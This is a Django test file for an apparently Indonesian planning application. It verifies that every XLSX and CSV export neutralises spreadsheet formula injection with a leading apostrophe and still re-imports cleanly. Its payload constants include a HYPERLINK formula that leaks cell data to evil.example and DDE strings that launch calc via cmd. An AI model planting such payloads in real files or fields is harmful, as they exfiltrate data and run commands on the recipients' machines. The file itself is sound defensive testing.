"""Formula injection (issue 13, item 7): a text a user wrote that starts with = + - @, a tab or a
carriage return reaches every XLSX and CSV export as text with a leading apostrophe, never as a
formula, and the files still import again."""

import csv
import datetime
import io
from decimal import Decimal

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import SimpleTestCase
from django.utils import timezone
from openpyxl import load_workbook

from sinergi.decrees.models import Decree
from sinergi.facilities.models import Facility
from sinergi.lib import spreadsheets
from sinergi.lib.spreadsheets import clean_text, safe_cell
from sinergi.monitoring.models import DataValue, Indicator
from sinergi.planning.models import Activity, BudgetLine, WorkPlan
from sinergi.programmes.models import Programme
from sinergi.regions.models import Region
from sinergi.test import BaseTestCase, add_member

GROUP_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")'
PERSON_NAME = "+cmd|' /C calc'!A0"
INSTITUTION = "@SUM(1+1)*cmd|' /C calc'!A0"
PROGRAMME = "-2+3+cmd|' /C calc'!A0"
FACILITY = "=1+1"
NOTE = "@1+2"
ACTIVITY = "-1+cmd|' /C calc'!A0"
PAYLOADS = [GROUP_NAME, PERSON_NAME, INSTITUTION, PROGRAMME, FACILITY, NOTE, ACTIVITY]


class SafeCellTestCase(SimpleTestCase):
    def test_texts_that_start_a_formula_get_an_apostrophe(self):
        for text in [*PAYLOADS, "=", "-", "@user", "\t=1", "\rx", "+62 812 3456 7890"]:
            self.assertEqual(safe_cell(text), "'" + text, repr(text))

    def test_other_values_are_unchanged(self):
        day = datetime.date(2025, 1, 2)
        values = ["Pokja AMPL", "", "a=b", "'quoted", 12, -5, -1.5, Decimal("-6.93"), day, None]
        for value in values:
            self.assertEqual(safe_cell(value), value, repr(value))
        # A number written as text (CSV) is no formula: it stays a number for the reader.
        for text in ["-5", "+62", "-6.9345", "-0,5", "3"]:
            self.assertEqual(safe_cell(text), text)

    def test_the_reader_drops_the_apostrophe_again(self):
        for text in PAYLOADS:
            self.assertEqual(clean_text(safe_cell(text)), text.strip())
        self.assertEqual(clean_text("'quoted"), "'quoted")  # no formula character follows
        self.assertEqual(clean_text("  Cinunuk "), "Cinunuk")
        self.assertIsNone(clean_text("  "))

    def test_an_xlsx_cell_is_never_a_formula_nor_an_error(self):
        content = spreadsheets.workbook_bytes("S", ["=h"], [[GROUP_NAME, "#N/A", "x\x01y", 5]])
        sheet = load_workbook(io.BytesIO(content)).active
        self.assertEqual(sheet["A1"].value, "'=h")
        cells = sheet[2]
        self.assertEqual([c.data_type for c in cells], ["s", "s", "s", "n"])
        self.assertEqual([c.value for c in cells], ["'" + GROUP_NAME, "#N/A", "xy", 5])


class ExportTestCase(BaseTestCase):
    """Every XLSX and CSV download, with the payloads in the records a user can name."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        today = timezone.localdate()
        cls.bandung_group.name = GROUP_NAME
        cls.bappeda.name = INSTITUTION
        cls.bappeda.save()
        member = add_member(cls.bandung_group, PERSON_NAME, institution=cls.bappeda, phone="+62 8")
        person = member.person
        cls.bandung_group.contact_person = person
        cls.bandung_group.save()
        Decree.objects.create(
            working_group=cls.bandung_group,
            number="050/2024",
            signatory="Bupati Bandung",
            signed_on=today,
            valid_from=today,
            valid_until=today + datetime.timedelta(days=365),
        )
        programme = Programme.objects.create(
            name=PROGRAMME,
            kind=Programme.Kind.NATIONAL,
            sector="sanitasi",
            starts_on=datetime.date(2025, 1, 1),
            ends_on=datetime.date(2025, 12, 31),
            registered_by=cls.bandung_group,
            status=Programme.Status.RUNNING,
            funder="=funder",
        )
        programme.locations.set([cls.cinunuk])
        programme.working_groups.add(cls.bandung_group)
        Facility.objects.create(
            name=FACILITY,
            village=cls.cinunuk,
            kind=Facility.Kind.PIPED_WATER,
            latitude=Decimal("-6.9345"),
            longitude=Decimal("107.7231"),
        )
        indicator = Indicator.objects.create(
            code="am-uji",
            name_id="Indikator uji",
            name_en="Test indicator",
            unit="angka",
            sector="air_minum",
            aggregation="jumlah",
            source="Pokja",
            is_public=True,
        )
        DataValue.objects.create(
            indicator=indicator,
            region=cls.kab_bandung,
            year=2024,
            source=indicator.default_source,
            status=DataValue.Status.VERIFIED,
            value=3,
            note=NOTE,
        )
        plan = WorkPlan.objects.create(working_group=cls.bandung_group, year=2025)
        activity = Activity.objects.create(
            work_plan=plan,
            number=1,
            name=ACTIVITY,
            sector="air_minum",
            location=cls.kab_bandung,
            institution=cls.bappeda,
        )
        BudgetLine.objects.create(activity=activity, source="apbn", amount=Decimal("1000"))

    # (who downloads, address, payloads expected in the file)
    EXPORTS = [
        (None, "/pokja/ekspor.xlsx", [GROUP_NAME, INSTITUTION, PERSON_NAME]),
        (None, "/pokja/ekspor.csv", [GROUP_NAME, INSTITUTION, PERSON_NAME]),
        ("national", "/kepatuhan/ekspor.xlsx", [GROUP_NAME]),
        ("regency", "/pokja/32.04/anggota/ekspor.xlsx", [PERSON_NAME, INSTITUTION]),
        ("regency", "/pokja/32.04/anggota/ekspor.xlsx?riwayat=1", [PERSON_NAME]),
        ("regency", "/pokja/32.04/anggota/templat.xlsx", []),
        (None, "/program/ekspor.xlsx", [PROGRAMME]),
        (None, "/program/ekspor.csv", [PROGRAMME]),
        ("regency", "/pokja/32.04/program/ekspor.xlsx", [PROGRAMME, "=funder"]),
        ("regency", "/pokja/32.04/program/ekspor.csv", [PROGRAMME, "=funder"]),
        ("regency", "/pokja/32.04/program/templat.xlsx", []),
        ("regency", "/pokja/32.04/sarana/ekspor.xlsx", [FACILITY]),
        ("regency", "/pokja/32.04/sarana/ekspor.csv", [FACILITY]),
        ("regency", "/pokja/32.04/sarana/templat.xlsx", []),
        (None, "/data/ekspor.xlsx?wilayah=32.04", [NOTE]),
        (None, "/data/ekspor.csv?wilayah=32.04", [NOTE]),
        ("regency", "/pokja/32.04/data/templat.xlsx?indikator=am-uji&tahun=2024", [NOTE]),
        ("regency", "/pokja/32.04/rkt/2025/ekspor.xlsx", [ACTIVITY, INSTITUTION]),
        ("regency", "/pokja/32.04/rkt/2025/templat.xlsx", [INSTITUTION]),
        (
            "regency",
            "/pokja/32.04/rkt/2025/laporan-realisasi/?format=xlsx",
            [ACTIVITY, INSTITUTION],
        ),
    ]

    def download(self, who, url):
        self.client.logout()
        if who:
            self.client.force_login(getattr(self, who))
        response = self.client.get(url)
        self.assertEqual(response.status_code, 200, url)
        if response.streaming:
            return b"".join(response.streaming_content)
        return response.content

    def test_no_export_holds_a_formula(self):
        for who, url, payloads in self.EXPORTS:
            with self.subTest(url=url):
                content = self.download(who, url)
                if ".csv" in url:
                    fields = self.csv_fields(content)
                else:
                    fields = self.xlsx_cells(content, url)
                for payload in payloads:
                    self.assertIn("'" + payload, fields, payload)
                for field in fields:
                    self.assertEqual(safe_cell(field), field)

    def csv_fields(self, content):
        text = content.decode("utf-8-sig")
        return [field for row in csv.reader(io.StringIO(text, newline="")) for field in row]

    def xlsx_cells(self, content, url):
        """The text of every cell of every sheet; fails on a formula cell."""
        texts = []
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, "f", f"{url} {cell.coordinate}")
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
        # The title of the work plan's guide names the group within a sentence.
        return [text for text in texts if not text.startswith(("Work plan", "RKT"))]

    def test_a_negative_figure_stays_a_number(self):
        DataValue.objects.update(value=-3)
        content = self.download(None, "/data/ekspor.xlsx?wilayah=32.04")
        sheet = load_workbook(io.BytesIO(content)).active
        self.assertEqual(sheet["I2"].value, -3)
        content = self.download(None, "/data/ekspor.csv?wilayah=32.04")
        self.assertIn(",-3,", content.decode("utf-8-sig"))

    def test_exports_import_again_without_change(self):
        self.client.force_login(self.regency)
        imports = [
            ("/pokja/32.04/program/ekspor.xlsx", "/pokja/32.04/program/impor/", Programme),
            ("/pokja/32.04/sarana/ekspor.csv", "/pokja/32.04/sarana/impor/", Facility),
            ("/pokja/32.04/sarana/ekspor.xlsx", "/pokja/32.04/sarana/impor/", Facility),
            ("/pokja/32.04/rkt/2025/ekspor.xlsx", "/pokja/32.04/rkt/2025/impor/", Activity),
        ]
        for export, url, model in imports:
            with self.subTest(export=export):
                content = self.download("regency", export)
                before = list(model.objects.values().order_by("pk"))
                name = export.rsplit("/", 1)[1]
                response = self.client.post(url, {"file": SimpleUploadedFile(name, content)})
                self.assertEqual(response.status_code, 302, response.content[-3000:])
                self.assertEqual(list(model.objects.values().order_by("pk")), before)

    def test_the_data_export_imports_again(self):
        content = self.download(None, "/data/ekspor.csv?wilayah=32.04")
        self.client.force_login(self.regency)
        upload = SimpleUploadedFile("data.csv", content)
        response = self.client.post("/pokja/32.04/data/impor/", {"file": upload})
        self.assertEqual(response.status_code, 302, response.content[-3000:])
        value = DataValue.objects.get(region=Region.objects.get(code="32.04"))
        self.assertEqual(value.note, NOTE)
